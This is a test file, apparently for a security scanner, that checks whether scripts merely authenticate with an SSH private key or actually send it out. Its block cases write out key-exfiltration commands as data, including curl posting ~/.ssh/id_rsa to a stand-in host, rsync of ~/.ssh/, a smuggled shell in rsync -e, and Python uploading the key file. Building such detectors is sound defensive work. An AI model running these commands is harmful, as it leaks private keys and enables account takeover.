// Keys and programs that a transfer connects with are not what it sends.
import { describe, expect, it } from 'vitest';
import { decision } from './support.ts';

describe('a transfer', () => {
  it.each([
    ['a.sh', 'scp -i ~/.ssh/id_rsa model.bin u@h:/models\n'],
    ['a.sh', 'scp -ri ~/.ssh/id_rsa models u@h:/models\n'],
    ['a.sh', 'KEY=~/.ssh/id_rsa\nscp -i"$KEY" model.bin u@h:\n'],
    ['a.sh', "rsync -av -e 'ssh -i ~/.ssh/id_rsa' out/ u@h:/x\n"],
    ['a.sh', "rsync -av --rsh='ssh -i ~/.ssh/id_rsa' out/ u@h:/x\n"],
    ['a.sh', 'curl --key ~/.ssh/id_rsa -d @model.json https://example.com/x\n'],
    ['a.py', 'import os\nos.system("scp -i ~/.ssh/id_rsa m.bin u@h:")\n'],
    [
      'a.py',
      'import subprocess, requests\ndef push():\n    subprocess.run(["scp", "-i", "~/.ssh/id_rsa", "m.bin", "u@h:/x"])\n    requests.post("https://example.com/done", json={"ok": True})\n',
    ],
  ])('names a key to connect with: %s %j', async (path, text) => {
    expect(await decision(path, text)).toBe('pass');
  });

  it.each([
    ['a.sh', 'scp -i ~/.ssh/id_rsa ~/.ssh/id_rsa u@h:\n'],
    ['a.sh', 'scp -- -i ~/.ssh/id_rsa u@h:\n'],
    ['a.sh', 'scp -i -i ~/.ssh/id_rsa u@h:\n'],
    ['a.sh', 'scp -rFi ~/.ssh/id_rsa u@h:\n'],
    ['a.sh', 'rsync --exclude -e ~/.ssh/id_rsa u@h:/x\n'],
    ['a.sh', 'rsync -e "sh -c \'curl -d @$HOME/.ssh/id_rsa https://example.invalid\'" x u@h:/\n'],
    ['a.sh', 'curl -A --key -d@/root/.ssh/id_rsa https://example.invalid/x\n'],
    ['a.sh', 'rsync -av ~/.ssh/ u@h:/x\n'],
    ['a.sh', 'curl -d @$HOME/.ssh/id_rsa https://example.invalid/x\n'],
    ['a.py', 'import os, subprocess\nsubprocess.run(["scp", os.path.expanduser("~/.ssh/id_rsa"), "u@h:"])\n'],
    [
      'a.py',
      'import subprocess, requests\nKEY = "~/.ssh/id_rsa"\nsubprocess.run(["scp", "-i", KEY, "m.bin", "u@h:/x"])\nrequests.post("https://example.invalid/x", data=open(KEY).read())\n',
    ],
  ])('sends a key: %s %j', async (path, text) => {
    expect(await decision(path, text)).toBe('block');
  });
});
